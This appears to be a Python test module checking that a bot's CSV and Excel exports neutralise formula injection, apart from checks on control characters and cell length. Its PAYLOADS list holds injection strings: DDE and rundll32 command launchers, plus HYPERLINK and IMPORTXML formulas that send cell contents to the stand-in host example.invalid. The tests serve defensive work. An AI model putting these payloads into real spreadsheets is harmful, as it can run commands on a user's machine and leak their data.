"""What somebody typed is never carried out: no cell of any table is a formula, nor the way to one."""

from __future__ import annotations

import csv
import io
import tempfile
import zipfile
from collections.abc import Sequence
from contextlib import closing
from functools import partial
from pathlib import Path

import openpyxl  # type: ignore[import-untyped]
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from bot.export.plain import neutral, write_csv
from bot.export.tables import Table, unguarded
from bot.export.workbook import LONGEST, Book, readable
from bot.store import Store
from bot.store.conversations import Kept
from bot.store.datasets import Kind
from bot.store.people import Person
from tests.export.exports import Exports
from tests.store.support import answer

TEXTS: Sequence[Kind] = ("code", "word", "text", "account", "given", "value", "label", "list")
SIGNS = "=+-@\t\r\n\0＝＋－＠"
PASSED_OVER = ["", " ", "  ", '"', "'", '" ', "\u00a0", "\ufeff", "\u200b", "\t", "\n", "\u3000"]
PAYLOADS = [
    "1+1", "cmd|' /C calc'!A0", 'HYPERLINK("http://example.invalid?x="&A1,"qui")', "SUM(A1:A9)*cmd|'/c calc'!A0",
    "DDE(\"cmd\";\"/C calc\";\"x\")", 'IMPORTXML(CONCAT("http://example.invalid/",A1),"//a")', "39 0543 1234", "",
    "rundll32|'URL.dll,OpenURL x'!A",
]  # fmt: skip
dangerous = st.builds(
    "{}{}{}".format, st.sampled_from(PASSED_OVER), st.sampled_from(SIGNS), st.sampled_from(PAYLOADS)
)
anything = st.text(st.characters(exclude_categories=["Cs"]), max_size=60)
texts = st.lists(dangerous | anything, min_size=1, max_size=40)


def table(rows: Sequence[str]) -> Table:
    """Every text in every kind of column that can hold one."""
    columns = {f"c{n}": kind for n, kind in enumerate(TEXTS)}
    cells = [[(text,) if kind == "list" else text for kind in TEXTS] for text in rows]
    return Table("texts", columns, ("c0",), [cells], partial(unguarded, columns.values()))


def is_dangerous(cell: str) -> bool:
    """Whether a spreadsheet might take a cell for a formula, once it has passed over what it passes over."""
    return cell[:1] in set("\t\r\n\0") or cell.lstrip("".join(PASSED_OVER) + "\0\r\t")[:1] in set(SIGNS)


@given(texts)
@settings(max_examples=60)
def test_no_cell_of_a_csv_is_a_formula(rows: list[str]) -> None:
    """Every dangerous text has an apostrophe before it, all others stand as they were, and rows stay rows."""
    file = io.BytesIO()
    write_csv(file, table(rows))
    found = list(csv.reader(io.StringIO(file.getvalue().decode("utf-8-sig"), newline="")))[1:]
    assert len(found) == len(rows)
    for text, cells in zip(rows, found, strict=True):
        assert len(cells) == len(TEXTS)
        for cell in cells:
            assert cell in (text, f"'{text}")
            assert cell.startswith("'") or not is_dangerous(cell)
            assert cell == f"'{text}" or not is_dangerous(text)


@given(texts)
@settings(max_examples=25)
def test_no_cell_of_a_workbook_is_a_formula(rows: list[str]) -> None:
    """Every text is a text, as far as XML can say it; no cell is a formula or a link."""
    with tempfile.TemporaryDirectory() as folder:
        path = Path(folder) / "texts.xlsx"
        book = Book(path)
        book.add(table(rows))
        book.close()
        with closing(openpyxl.load_workbook(path)) as opened:
            sheet = opened["texts"]
            found = list(sheet.iter_rows(min_row=2, max_row=len(rows) + 1, max_col=len(TEXTS)))
            assert all(cell.data_type in "sn" and cell.hyperlink is None for row in found for cell in row)
            shown = [[str(cell.value or "") for cell in row] for row in found]
        with zipfile.ZipFile(path) as archive:
            assert not [name for name in archive.namelist() if b"<f>" in archive.read(name)]
            assert not [name for name in archive.namelist() if "externalLink" in name]
    for text, cells in zip(rows, shown, strict=True):
        # Reading XML, every way to end a line becomes one.
        assert {as_lines(cell) for cell in cells} == {as_lines(readable(text))}


def as_lines(text: str) -> str:
    """A text with its lines ended in one way."""
    return text.replace("\r\n", "\n").replace("\r", "\n").replace("_x000D_", "\n")


@pytest.mark.parametrize(
    "text",
    [
        "=1+1",
        "+39 0543",
        "-5",
        "@anna",
        "\tx",
        "\rx",
        "=",
        '=HYPERLINK("x")',
        " =1",
        '"=1',
        "'=1",
        "＝1",
        "－1",
    ],
)
def test_formulas_are_neutralised(
    store: Store, person: Person, kept: Kept, exports: Exports, text: str
) -> None:
    """From the database to the file: an apostrophe in CSV, a plain text in Excel; JSON lines keep it as it was."""
    answer(store, person, kept, "ck1", text, text)
    answer(store, person, kept, "ck2", [text, "fb"])
    first, second = exports.csv("answers", identified=True)
    assert (first["raw"], first["value"]) == (f"'{text}", f"'{text}")
    assert second["value"] == f"'{text} fb"
    assert exports.jsonl("answers", identified=True)[0]["raw"] == text
    with closing(exports.workbook("answers", identified=True)) as book:
        row = [cell for cell in book["answers"][2] if as_lines(str(cell.value)) == as_lines(text)]
    assert [cell.data_type for cell in row] == ["s", "s"]


@pytest.mark.parametrize("text", ["", "meno 5", "a=b", "5", "è", "«=»", "n'est", "1-2"])
def test_harmless_texts_are_left_alone(text: str) -> None:
    """A sign inside a text is none at its beginning."""
    assert neutral(text) == text


def test_what_a_cell_cannot_hold() -> None:
    """Control characters go, and what is too long is cut, counted as Excel counts; no character is halved."""
    assert readable("a\0b\x1fc\x0bd\ufffee\tf\ng") == "abcde\tf\ng"
    assert readable("x" * LONGEST) == "x" * LONGEST
    assert readable("x" * (LONGEST + 1)) == "x" * (LONGEST - 1) + "…"
    assert readable("🙂" * 16_384) == "🙂" * 16_383 + "…"
